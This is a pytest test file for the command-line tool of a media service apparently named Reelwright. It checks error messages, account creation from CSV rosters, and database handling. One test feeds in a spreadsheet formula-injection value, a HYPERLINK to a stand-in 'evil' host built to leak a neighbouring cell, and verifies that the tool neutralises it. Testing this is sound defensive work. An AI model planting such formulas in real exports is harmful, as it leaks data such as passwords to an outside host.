"""Commands typed in the wrong place, or before there is anything: one line that says what to do, and nothing made."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from tests.composed import Composed

from reelwright import __version__
from reelwright.experiments.adapters.sql import get_configuration
from reelwright.kernel.database import Database
from reelwright.kernel.errors import Invalid
from reelwright.kernel.keys import KeyRing


def run(folder: Path, *words: str, typed: str = "") -> subprocess.CompletedProcess[str]:
    """A command as a person types it in `folder`."""
    environ = {name: value for name, value in os.environ.items() if not name.startswith("REELWRIGHT_")}
    command = [str(Path(sys.executable).with_name("reelwright")), *words]
    return subprocess.run(command, cwd=folder, env=environ, input=typed, capture_output=True, text=True, check=False)


@pytest.mark.parametrize(
    "words",
    [
        ("accounts", "list"),
        ("accounts", "reset-password", "Ada"),
        ("accounts", "setup-code"),
        ("catalog", "list"),
        ("cdn", "status"),
        ("cdn", "sign", "assets/a/b"),
        ("cdn", "steer", "--explain"),
        ("events", "show"),
        ("experiments", "list"),
        ("lake", "tables"),
        ("lake", "ledger"),
        ("sql", "SELECT count(*) FROM events"),
    ],
    ids=" ".join,
)
def test_where_no_service_is_a_command_says_so_and_makes_none(tmp_path: Path, words: tuple[str, ...]) -> None:
    """An empty answer from a folder that was just made would be a lie."""
    found = run(tmp_path, *words, typed="secret secret\nsecret secret\n")
    assert found.returncode == 1
    last = found.stderr.strip().splitlines()[-1]
    assert last == "reelwright: no service keeps its data in reelwright-data; name its folder with --data"
    assert "Traceback" not in found.stderr and list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("words", "begins"), [(("--version",), __version__), (("sql", "-h"), "\n Usage: reelwright sql")]
)
def test_the_customary_options_are_known(tmp_path: Path, words: tuple[str, ...], begins: str) -> None:
    """Whoever asks a program for its version or for help types these first."""
    found = run(tmp_path, *words)
    assert (found.returncode, found.stderr) == (0, "")
    assert found.stdout.replace(" " * 80, "").startswith(begins)


@pytest.mark.parametrize("words", [("serve",), ("rotate-keys",), ("accounts", "create-user", "Ada")], ids=" ".join)
def test_a_place_where_nothing_can_be_written_is_told_in_one_line(tmp_path: Path, words: tuple[str, ...]) -> None:
    """As a folder of somebody else, or on a disk that is full or only read: the message names the file."""
    (tmp_path / "file").write_text("not a folder")
    found = run(tmp_path, *words, "--data", "file/state", typed="secret secret\nsecret secret\n")
    assert found.returncode == 1 and "Traceback" not in found.stderr, found.stderr
    last = found.stderr.strip().splitlines()[-1]
    assert last.startswith("reelwright: ") and "file/state" in last


def test_output_that_cannot_be_written_is_told_in_one_line(tmp_path: Path) -> None:
    """As where the disk is full; the answer of the command says that something is missing."""
    with Path("/dev/full").open("w") as full:
        found = subprocess.run(
            [str(Path(sys.executable).with_name("reelwright")), "practice", "lab"],
            stdout=full, stderr=subprocess.PIPE, text=True, check=False, cwd=tmp_path,
        )  # fmt: skip
    assert (found.returncode, found.stderr) == (1, "reelwright: No space left on device\n")


def test_keys_of_no_service_are_not_rotated(tmp_path: Path) -> None:
    """Somebody in the wrong folder would believe that the leaked key is gone."""
    found = run(tmp_path, "rotate-keys")
    assert found.returncode == 1 and "no key ring at" in found.stderr
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("words", [("accounts", "list"), ("catalog", "list"), ("experiments", "list")], ids=" ".join)
def test_a_mistyped_database_is_not_made(tmp_path: Path, words: tuple[str, ...]) -> None:
    """Empty tables would pass for a service without people."""
    found = run(tmp_path, *words, "--database", f"sqlite:///{tmp_path}/typo.sqlite")
    assert found.returncode == 1 and "there is no database at" in found.stderr
    assert list(tmp_path.iterdir()) == []


def test_commands_work_in_the_folder_of_a_whole_service(tmp_path: Path) -> None:
    """Each knows the schema of its own system; the others' is left alone."""
    Composed(tmp_path / "data")
    data = ("--data", str(tmp_path / "data"))
    people = run(tmp_path, "accounts", "list", *data)
    assert (people.returncode, people.stderr) == (0, "")
    begun = run(tmp_path, "practice", "start", *data)
    assert "Traceback" not in begun.stderr
    assert "reelwright practice resume" in begun.stdout, begun.stdout
    for words in (("catalog", "list"), ("lake", "tables"), ("events", "show"), ("experiments", "list")):
        found = run(tmp_path, *words, *data)
        assert (found.returncode, found.stderr) == (0, ""), words


def test_commands_of_a_service_that_has_moved_follow_its_settings(tmp_path: Path) -> None:
    """What it was copied from lies there still and would answer for it; a flag imported there is served to nobody."""
    Composed(tmp_path / "reelwright-data")
    moved = Composed(tmp_path / "elsewhere")
    keys = KeyRing.open(tmp_path / "ring" / "keys.json")
    (tmp_path / "reelwright.toml").write_text(
        f'database = "{moved.resources.database.url}"\nkeys = "{tmp_path}/ring/keys.json"\n'
    )
    flags = tmp_path / "flags.json"
    flags.write_text('{"flags": {"dark": {"state": "ENABLED", "variants": {"on": true}, "defaultVariant": "on"}}}')
    done = run(tmp_path, "experiments", "import", "flagd", str(flags))
    assert (done.returncode, done.stderr) == (0, ""), done.stdout
    with moved.resources.database.reading() as connection:
        assert [one.vendor for one in get_configuration(connection)[1].imports] == ["flagd"]
    assert "flagd" in run(tmp_path, "experiments", "list").stdout
    (tmp_path / "elsewhere" / "reelwright.sqlite").unlink()
    for words in (("experiments", "list"), ("catalog", "list")):
        assert "there is no database at" in run(tmp_path, *words).stderr, words
    assert run(tmp_path, "cdn", "sign", "assets/a/b").stdout.startswith(f"/m/{keys.newest.name}.")
    (tmp_path / "ring" / "keys.json").unlink()
    assert "`keys` names" in run(tmp_path, "cdn", "status").stderr


def test_people_can_be_added_before_the_first_start(tmp_path: Path) -> None:
    """The service then starts with them."""
    made = run(tmp_path, "accounts", "create-user", "Ada", typed="secret secret\nsecret secret\n")
    assert made.returncode == 0, made.stderr
    assert "Ada" in run(tmp_path, "accounts", "list").stdout


def test_a_whole_class_is_added_from_a_list(tmp_path: Path) -> None:
    """As a spreadsheet writes it; given again when it has grown, only the new are added."""
    roster = tmp_path / "class.csv"
    roster.write_bytes("\ufeffName;Role\r\nZoë Öz;\r\nBob;editor\r\n".encode())
    nowhere = run(tmp_path, "accounts", "create-users", str(roster))
    assert "no service keeps its data" in nowhere.stderr and nowhere.stdout == ""
    assert list(tmp_path.iterdir()) == [roster]
    Composed(tmp_path / "reelwright-data")
    made = run(tmp_path, "accounts", "create-users", str(roster))
    assert made.returncode == 0, made.stderr
    passwords = dict(line.split(",") for line in made.stdout.splitlines())
    assert list(passwords) == ["name", "Zoë Öz", "Bob"]
    pupil = '"=HYPERLINK(""http://evil/""&B2)"\n'
    formula = run(tmp_path, "accounts", "create-users", "-", typed=pupil).stdout.splitlines()[1]
    assert formula.startswith("\"'=HYPERLINK(")
    grown = "Ada,admin,a password of her own\nBOB\nZoë Öz\n"
    again = run(tmp_path, "accounts", "create-users", "-", typed=grown)
    assert again.stdout.splitlines() == ["name,password", "Ada,a password of her own"]
    assert "somebody is called BOB already" in again.stderr and again.returncode == 0
    listed = run(tmp_path, "accounts", "list").stdout
    assert [line.split()[-1] for line in listed.splitlines()[1:]] == ["viewer", "editor", "viewer", "admin"]
    broken = run(tmp_path, "accounts", "create-users", "-", typed="New\nOther,boss\n")
    assert broken.returncode == 1 and "line 2: a role is one of" in broken.stderr
    assert "New" not in run(tmp_path, "accounts", "list").stdout
    binary = tmp_path / "binary.csv"
    binary.write_bytes(b"Ren\xe9\n")
    assert "is not UTF-8" in run(tmp_path, "accounts", "create-users", str(binary)).stderr


def test_a_database_of_a_newer_version_is_left_alone(tmp_path: Path) -> None:
    """The message names the revision; nothing is migrated."""
    composed = Composed(tmp_path / "data")
    with composed.resources.database.writing() as connection:
        connection.exec_driver_sql(
            "UPDATE alembic_version SET version_num = 'accounts0999' WHERE version_num LIKE 'accounts%'"
        )
    found = run(tmp_path, "accounts", "list", "--data", str(tmp_path / "data"))
    assert (found.returncode, found.stdout) == (1, "")
    assert "newer version of Reelwright (accounts0999)" in found.stderr and "Traceback" not in found.stderr
    with pytest.raises(Invalid, match="accounts0999"):
        Database(f"sqlite:///{tmp_path}/data/reelwright.sqlite").migrate(["reelwright.accounts"])


def test_an_unknown_table_is_answered_with_the_lakes_own(tmp_path: Path) -> None:
    """Not with those of the engine."""
    Composed(tmp_path / "data")
    found = run(tmp_path, "sql", "SELECT * FROM nothere", "--data", str(tmp_path / "data"))
    assert found.returncode == 1 and "playback_sessions" in found.stderr and "pg_" not in found.stderr
    assert "1 row in" in run(tmp_path, "sql", "SELECT 1", "--data", str(tmp_path / "data")).stdout


def test_what_people_named_is_printed_as_it_is(tmp_path: Path) -> None:
    """Brackets and colons in a title or an answer are no markup."""
    Composed(tmp_path / "data")
    found = run(tmp_path, "sql", "SELECT '[Rec] (2007)', ':alien:', '[/b]'", "--data", str(tmp_path / "data"))
    assert found.returncode == 0, found.stderr
    for said in ("[Rec] (2007)", ":alien:", "[/b]"):
        assert said in found.stdout


def test_the_doctor_names_the_extra_to_install(tmp_path: Path) -> None:
    """Where a part is missing, the line can be typed."""
    script = "import sys; sys.modules['obstore'] = None; from reelwright.app.cli import app; app(['doctor'])"
    environ = {**os.environ, "COLUMNS": "200"}
    found = subprocess.run(
        [sys.executable, "-c", script], cwd=tmp_path, env=environ, capture_output=True, text=True, check=False
    )
    assert "pip install 'reelwright[s3]'" in found.stdout, found.stdout + found.stderr
